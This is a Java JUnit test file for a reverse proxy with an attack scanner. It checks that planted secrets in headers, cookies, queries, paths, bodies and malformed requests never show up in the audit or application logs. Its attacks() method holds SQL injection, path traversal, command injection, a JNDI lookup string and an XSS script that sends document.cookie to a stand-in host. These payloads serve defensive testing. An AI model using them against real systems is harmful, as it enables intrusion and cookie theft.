package pt.sunbeam.proxy;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.ThrowableProxyUtil;
import ch.qos.logback.core.AppenderBase;
import java.io.EOFException;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;
import pt.sunbeam.detector.audit.AuditLines;
import pt.sunbeam.detector.audit.AuditRecord;

/** No secret of a client is in the audit log or the program's own, wherever it was and whatever became of the request. */
@Timeout(180)
class PlantedSecretsTest {
    private static final String OK = "HTTP/1.1 200 OK\nContent-Length: 2\n\nhi";

    @TempDir
    Path folder;

    private final Secrets secrets = new Secrets();
    private final Queue<String> logged = new ConcurrentLinkedQueue<>();
    private final List<Integer> statuses = new ArrayList<>();
    private int port;

    @Test
    void theSearchFindsASecretInEveryForm() {
        for (int i = 0; i < 8; i++) {
            String place = "place " + i;
            String secret = secrets.at(place);
            for (String shown : List.of(
                    secret,
                    secret.toUpperCase(Locale.ROOT),
                    Secrets.percentEncoded(secret),
                    Secrets.percentEncoded(Secrets.percentEncoded(secret)),
                    secret.replace(
                            secret.substring(3, 4), "\\u00" + HexFormat.of().toHexDigits((byte) secret.charAt(3))),
                    encoded("user:" + secret),
                    encoded("u:" + secret),
                    encoded("us:" + secret + ":more"))) {
                assertThat(secrets.foundIn("before " + shown + " after")).containsExactly(place);
            }
        }
        assertThat(secrets.foundIn("nothing of the kind")).isEmpty();
    }

    @Test
    void noneIsInTheLogs() throws Exception {
        var appender = appender();
        var root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        root.addAppender(appender);
        Path audit = folder.resolve("audit.log");
        int deadPort;
        try (var unused = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            deadPort = unused.getLocalPort();
        }
        try (var origin = Origin.answering(OK);
                var odd = new Origin(_ -> {})) {
            try (var proxy = Proxy.start(Proxies.config("""
                    listen.http = "127.0.0.1:0"
                    telemetry.metrics_port = 0
                    admin.listen = "127.0.0.1:0"
                    audit { path = "%s", keep_values = [page], feature_sample = 1 }
                    scanner { enabled = true }
                    shutdown.drain = 1 s
                    upstream { connect_timeout = 2 s, response_timeout = 2 s }
                    limits { header_bytes = 8 KiB, uri_bytes = 4 KiB, header_count = 40, body_bytes = 64 KiB }
                    routes = [
                      { host_prefix = "shop", backend = "http://127.0.0.1:%d" }
                      { host_prefix = "dead", backend = "http://127.0.0.1:%d" }
                      { host_prefix = "odd", backend = "http://127.0.0.1:%d" }
                    ]
                    """.formatted(audit, origin.port(), deadPort, odd.port())))) {
                port = proxy.httpPort();
                headers();
                cookies();
                queries();
                paths();
                bodies();
                attacks();
                malformed();
                upstreamFailures(odd);
            } finally {
                root.detachAppender(appender);
            }
        }
        String lines = Files.readString(audit);
        assertThat(secrets.count()).isGreaterThan(150);
        assertThat(secrets.foundIn(lines)).as("in the audit log").isEmpty();
        assertThat(secrets.foundIn(String.join("\n", logged)))
                .as("in the program's log")
                .isEmpty();
        assertThat(logged).hasSizeGreaterThan(10);
        assertThat(lines).contains("page=kept-4f9a1c7be2d05836").doesNotContain("page=*");
        assertThat(records(audit)).hasSizeGreaterThanOrEqualTo(statuses.size());
        assertThat(records(audit).stream().filter(PlantedSecretsTest::isExplainedBlock))
                .hasSizeGreaterThan(5);
        assertThat(statuses).contains(200, 400, 403, 404, 502);
    }

    private static boolean isExplainedBlock(AuditRecord record) {
        var sunbeam = record.sunbeam();
        return record.status() == 403
                && sunbeam != null
                && sunbeam.scanner() != null
                && !sunbeam.scanner().reasons().isEmpty();
    }

    private void headers() throws IOException {
        for (String name : List.of(
                "User-Agent",
                "Accept",
                "Accept-Language",
                "Accept-Charset",
                "Accept-Encoding",
                "Connection",
                "CF-IPCountry",
                "Authorization",
                "Proxy-Authorization",
                "Cookie2",
                "X-Api-Key",
                "X-Auth-Token",
                "X-CSRF-Token",
                "X-Amz-Security-Token",
                "X-Vault-Token",
                "Private-Token",
                "If-None-Match",
                "If-Match",
                "If-Modified-Since",
                "If-Range",
                "Range",
                "From",
                "Origin",
                "Via",
                "X-Real-IP",
                "X-Client-IP",
                "True-Client-IP",
                "X-Forwarded-User",
                "X-Forwarded-For",
                "X-Forwarded-Host",
                "X-Forwarded-Proto",
                "X-Forwarded-Port",
                "Forwarded",
                "traceparent",
                "tracestate",
                "baggage",
                "X-Request-Id",
                "X-Correlation-Id",
                "X-B3-TraceId",
                "X-Cloud-Trace-Context",
                "Sec-WebSocket-Key",
                "Sec-WebSocket-Protocol",
                "Sec-Fetch-Site",
                "Sec-CH-UA",
                "DNT",
                "Cache-Control",
                "Pragma",
                "TE",
                "Trailer",
                "Upgrade",
                "Expect",
                "Max-Forwards",
                "Content-Type",
                "Content-Language",
                "Content-Encoding",
                "Content-Location",
                "Link",
                "Location",
                "Set-Cookie",
                "X-Invented",
                "X_Underscored",
                "Last-Event-ID",
                "Idempotency-Key",
                "Signature")) {
            ask("GET / HTTP/1.1", name + ": " + secrets.at("header " + name));
        }
        ask("GET / HTTP/1.1", "User-Agent: Mozilla/5.0 (key " + secrets.at("agent's comment") + ") Gecko/20100101");
        ask("GET / HTTP/1.1", "Authorization: Basic " + encoded("user:" + secrets.at("Basic")));
        ask("GET / HTTP/1.1", "Authorization: Bearer " + jwt("Bearer"));
        ask("GET / HTTP/1.1", "X-" + secrets.at("a header's name") + ": 1");
        ask("GET / HTTP/1.1", "Accept-Language: " + Secrets.percentEncoded(secrets.at("encoded language")));
        ask("GET / HTTP/1.1", "traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-" + secrets.at("span") + "-01");
        ask(
                "GET / HTTP/1.1",
                "Forwarded: for=\"_" + secrets.at("Forwarded for") + "\";by=" + secrets.at("Forwarded by"));
        ask(
                "GET / HTTP/1.1",
                "Referer: https://u:" + secrets.at("userinfo") + "@a.example/" + secrets.at("Referer's path") + "/x?t="
                        + secrets.at("Referer's query") + "#" + secrets.at("fragment"));
        ask("GET / HTTP/1.1", "Referer: " + secrets.at("bare Referer"));
        ask("GET / HTTP/1.1", "Referer: https://" + secrets.at("Referer's host") + ".example/");
        ask("GET / HTTP/1.1", "Referer: //" + secrets.at("host without scheme") + "@" + secrets.at("other host") + "/");
        send("GET / HTTP/1.1\nHost: " + secrets.at("first label") + ".shop.example\n\n");
        send("GET / HTTP/1.1\nHost: shop.example:" + secrets.at("a port") + "\n\n");
    }

    private void cookies() throws IOException {
        ask(
                "GET / HTTP/1.1",
                "Cookie: session=" + secrets.at("cookie") + "; theme=dark; t=" + secrets.at("second cookie"));
        ask("GET / HTTP/1.1", "Cookie: " + secrets.at("a cookie's name") + "=1; " + secrets.at("nameless cookie"));
        ask("GET / HTTP/1.1", "Cookie: page=" + secrets.at("a cookie of a kept name"));
        ask("GET / HTTP/1.1", "Cookie: a=\"" + secrets.at("quoted cookie") + "\"; b=" + jwt("cookie JWT"));
        ask("GET / HTTP/1.1", "Cookie: \u0001;" + secrets.at("broken cookie"));
    }

    private void queries() throws IOException {
        for (String name : List.of("token", "password", "q", "id", "next", "PAGE", "page%20", "a[b]", "")) {
            ask("GET /?" + name + "=" + secrets.at("query " + name) + " HTTP/1.1");
        }
        ask("GET /?page=kept-4f9a1c7be2d05836 HTTP/1.1");
        ask("GET /?" + secrets.at("a parameter's name") + "=1 HTTP/1.1");
        ask("GET /?" + secrets.at("bare query") + " HTTP/1.1");
        ask("GET /?a=1;" + secrets.at("behind a semicolon") + "=2 HTTP/1.1");
        ask("GET /?" + Secrets.percentEncoded(secrets.at("encoded name")) + "=1 HTTP/1.1");
        ask("GET /?t=" + Secrets.percentEncoded(Secrets.percentEncoded(secrets.at("encoded twice"))) + " HTTP/1.1");
        ask("GET /?" + encoded(secrets.at("name in base64")).replace("=", "") + " HTTP/1.1");
    }

    private void paths() throws IOException {
        for (int i = 0; i < 8; i++) {
            ask("GET /reset/" + secrets.at("segment " + i) + "/confirm HTTP/1.1");
        }
        ask("GET /t/" + jwt("segment JWT") + " HTTP/1.1");
        ask("GET /t;jsessionid=" + secrets.at("path parameter") + "/x HTTP/1.1");
        ask("GET /t/" + secrets.at("file name") + ".pdf HTTP/1.1");
        ask("GET /t/" + Secrets.percentEncoded(secrets.at("encoded segment")) + " HTTP/1.1");
        ask("GET /t/a%2F" + secrets.at("behind an encoded slash") + " HTTP/1.1");
        ask("GET /../" + secrets.at("above the root") + "/x HTTP/1.1");
        ask("GET http://shop.example/" + secrets.at("absolute form") + "?x=" + secrets.at("absolute form's query")
                + " HTTP/1.1");
        ask("CONNECT " + secrets.at("CONNECT") + ".example:443 HTTP/1.1");
        ask("TRACE /" + secrets.at("TRACE") + " HTTP/1.1");
        ask("HEAD /" + secrets.at("HEAD") + " HTTP/1.1");
    }

    private void bodies() throws IOException {
        post(
                "application/x-www-form-urlencoded",
                "user=a&password=" + secrets.at("form field") + "&page=" + secrets.at("form field of a kept name"));
        post("application/x-www-form-urlencoded", secrets.at("a form field's name") + "=1");
        post(
                "application/json",
                "{\"user\":{\"token\":\"" + secrets.at("JSON leaf") + "\",\"" + secrets.at("JSON key") + "\":1}}");
        post("application/json", "[\"" + secrets.at("broken JSON"));
        post("application/xml", "<a b=\"" + secrets.at("XML attribute") + "\">" + secrets.at("XML text") + "</a>");
        post("text/plain", secrets.at("plain text"));
        post(
                "multipart/form-data; boundary=b",
                multipart(
                        secrets.at("multipart name"),
                        secrets.at("file name of a part"),
                        secrets.at("multipart field")));
        post("multipart/form-data; boundary=" + secrets.at("boundary"), "nothing of the kind");
    }

    /** The reasons of a block show the piece of the value that looked like an attack. */
    private void attacks() throws IOException {
        String sql = "1' union select password,%s from users where '%s'='x' -- ";
        for (int i = 0; i < 4; i++) {
            ask("GET /?id="
                    + Secrets.percentEncoded(sql.formatted(secrets.at("column " + i), secrets.at("literal " + i)))
                    + " HTTP/1.1");
            ask("GET /?" + secrets.at("attacked name " + i) + "="
                    + Secrets.percentEncoded("1' or '1'='1' union select 1 -- ") + " HTTP/1.1");
            ask(
                    "GET / HTTP/1.1",
                    "Cookie: s="
                            + Secrets.percentEncoded("<script>fetch('//e.example/" + secrets.at("script " + i)
                                    + "'+document.cookie)</script>"));
            ask("GET / HTTP/1.1", "User-Agent: ${jndi:ldap://e.example/" + secrets.at("jndi " + i) + "}");
            ask(
                    "GET / HTTP/1.1",
                    "X-Api: " + sql.formatted(secrets.at("header column " + i), secrets.at("header literal " + i)));
            ask("GET /../../../../etc/passwd/" + secrets.at("traversal " + i) + " HTTP/1.1");
            ask("GET /?f=" + Secrets.percentEncoded("../../../../etc/passwd;cat /tmp/" + secrets.at("command " + i))
                    + " HTTP/1.1");
            post(
                    "application/x-www-form-urlencoded",
                    "a="
                            + Secrets.percentEncoded(
                                    sql.formatted(secrets.at("form column " + i), secrets.at("form literal " + i))));
            post(
                    "application/json",
                    "{\"a\":\"" + sql.formatted(secrets.at("JSON column " + i), secrets.at("JSON literal " + i))
                            + "\"}");
            post(
                    "multipart/form-data; boundary=b",
                    multipart(
                            "a", "f", sql.formatted(secrets.at("part column " + i), secrets.at("part literal " + i))));
            post(
                    "application/json",
                    "{\"a\":\""
                            + encoded(
                                    sql.formatted(secrets.at("base64 column " + i), secrets.at("base64 literal " + i)))
                            + "\"}");
        }
    }

    private void malformed() throws IOException {
        send(secrets.at("no request") + "\n\n");
        send(secrets.at("method") + " / HTTP/1.1\nHost: shop.example\n\n");
        send("GET /" + secrets.at("version's target") + " HTTP/" + secrets.at("version") + "\nHost: shop.example\n\n");
        send("GET " + secrets.at("target without slash") + " HTTP/1.1\nHost: shop.example\n\n");
        send("GET /<" + secrets.at("target with brackets") + ">|^ HTTP/1.1\nHost: shop.example\n\n");
        send("GET /%zz" + secrets.at("bad escape") + " HTTP/1.1\nHost: shop.example\n\n");
        send("GET /" + secrets.at("control character") + "\u0001 HTTP/1.1\nHost: shop.example\n\n");
        ask("GET / HTTP/1.1", secrets.at("line without colon"));
        ask("GET / HTTP/1.1", "X-A : " + secrets.at("space before colon"));
        ask("GET / HTTP/1.1", "X-A: 1\n " + secrets.at("folded line"));
        ask("GET / HTTP/1.1", "X-A: \u0000" + secrets.at("NUL"));
        ask("GET / HTTP/1.1", "X(A): " + secrets.at("bad name"));
        ask("GET / HTTP/1.1", "Content-Length: " + secrets.at("Content-Length"));
        ask("GET / HTTP/1.1", "Transfer-Encoding: " + secrets.at("Transfer-Encoding"));
        ask("GET / HTTP/1.1", "Content-Length: 1\nContent-Length: 2\nX-A: " + secrets.at("two lengths"));
        ask(
                "GET / HTTP/1.1",
                "Content-Type: " + secrets.at("type") + "/" + secrets.at("subtype") + "; " + secrets.at("parameter"));
        ask("GET / HTTP/1.1", "X-Long: " + secrets.at("long value") + "x".repeat(9_000));
        ask("GET / HTTP/1.1", ("X-Many: " + secrets.at("many fields") + "\n").repeat(50) + "X-End: 1");
        ask("GET /" + secrets.at("long target") + "x".repeat(5_000) + " HTTP/1.1");
        send("GET / HTTP/1.1\nHost: shop.example\nHost: " + secrets.at("second host") + "\n\n");
        send("GET / HTTP/1.1\nHost: a b " + secrets.at("broken host") + "\n\n");
        send("POST / HTTP/1.1\nHost: shop.example\nTransfer-Encoding: chunked\n\n" + secrets.at("chunk size")
                + "\nx\n0\n\n");
        send("POST / HTTP/1.1\nHost: shop.example\nTransfer-Encoding: chunked\n\n1;" + secrets.at("chunk extension")
                + "\nx\n0\nX-Trailer: " + secrets.at("trailer") + "\n\n");
        send("GET / HTTP/1.1\nHost: nobody.example\nX-A: " + secrets.at("no route") + "\n\n");
    }

    private void upstreamFailures(Origin odd) throws IOException {
        send("GET /" + secrets.at("dead path") + " HTTP/1.1\nHost: dead.example\nX-A: " + secrets.at("dead header")
                + "\n\n");
        for (String answer : List.of(
                secrets.at("garbage"),
                "HTTP/1.1 " + secrets.at("status") + " OK\n\n",
                "HTTP/1.1 200 OK\n" + secrets.at("answer's line without colon") + "\n\n",
                "HTTP/1.1 200 OK\nContent-Length: " + secrets.at("answer's length") + "\n\n",
                "HTTP/1.1 200 OK\nSet-Cookie: s=" + secrets.at("Set-Cookie") + "\u0001\nContent-Length: 0\n\n",
                "HTTP/1.1 302 " + secrets.at("phrase") + "\nLocation: /" + secrets.at("Location")
                        + "\nContent-Length: 0\n\n",
                "HTTP/1.1 200 OK\nContent-Type: " + secrets.at("answer's type") + "\nContent-Length: 0\n\n",
                "HTTP/1.1 200 OK\nX-" + secrets.at("answer's name") + ": \u0001\nContent-Length: 0\n\n",
                "HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n" + secrets.at("answer's chunk") + "\n",
                "HTTP/1.1 200 OK\nContent-Length: 100\n\n" + secrets.at("cut content"))) {
            odd.now(connection -> {
                connection.readHead();
                connection.send(answer);
            });
            send("GET /" + secrets.at("path before " + answer.length()) + "?t="
                    + secrets.at("query before " + answer.length())
                    + " HTTP/1.1\nHost: odd.example\nAuthorization: Bearer "
                    + secrets.at("credential before " + answer.length()) + "\n\n");
        }
    }

    private void ask(String start, String... fields) throws IOException {
        send(start + "\nHost: shop.example\n" + String.join("\n", fields) + (fields.length == 0 ? "\n" : "\n\n"));
    }

    private void post(String type, String content) throws IOException {
        send("POST /submit HTTP/1.1\nHost: shop.example\nContent-Type: %s\nContent-Length: %d\n\n"
                        .formatted(type, content.replace("\n", "\r\n").length())
                + content);
    }

    /** One request, one connection; the answer's status, where there is an answer. */
    private void send(String request) throws IOException {
        try (var connection = RawConnection.to(port)) {
            connection.send(request);
            connection.sayNoMore();
            statuses.add(connection.readHead().status());
            connection.in().readAllBytes();
        } catch (EOFException | SocketException noAnswer) {
            // that too is one
        }
    }

    private static String multipart(String name, String file, String value) {
        return "--b\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\"" + file + "\"\n\n" + value
                + "\n--b--\n";
    }

    private String jwt(String place) {
        var encoder = Base64.getUrlEncoder().withoutPadding();
        return encoder.encodeToString("{\"alg\":\"HS256\"}".getBytes(UTF_8)) + "."
                + encoder.encodeToString(("{\"sub\":\"" + secrets.at(place + "'s claim") + "\"}").getBytes(UTF_8)) + "."
                + secrets.at(place + "'s signature");
    }

    private static String encoded(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(ISO_8859_1));
    }

    private AppenderBase<ILoggingEvent> appender() {
        var appender = new AppenderBase<ILoggingEvent>() {
            @Override
            protected void append(ILoggingEvent event) {
                String thrown =
                        event.getThrowableProxy() == null ? "" : ThrowableProxyUtil.asString(event.getThrowableProxy());
                Map<String, String> context = event.getMDCPropertyMap();
                logged.add(event.getFormattedMessage() + " " + thrown + " " + context);
            }
        };
        appender.start();
        return appender;
    }

    private static List<AuditRecord> records(Path audit) throws IOException {
        var records = new ArrayList<AuditRecord>();
        try (var in = Files.newInputStream(audit)) {
            var lines = new AuditLines(in);
            for (@Nullable AuditRecord record = lines.next(); record != null; record = lines.next()) {
                records.add(record);
            }
            assertThat(lines.parsed()).isEqualTo(lines.lines());
        }
        return records;
    }
}
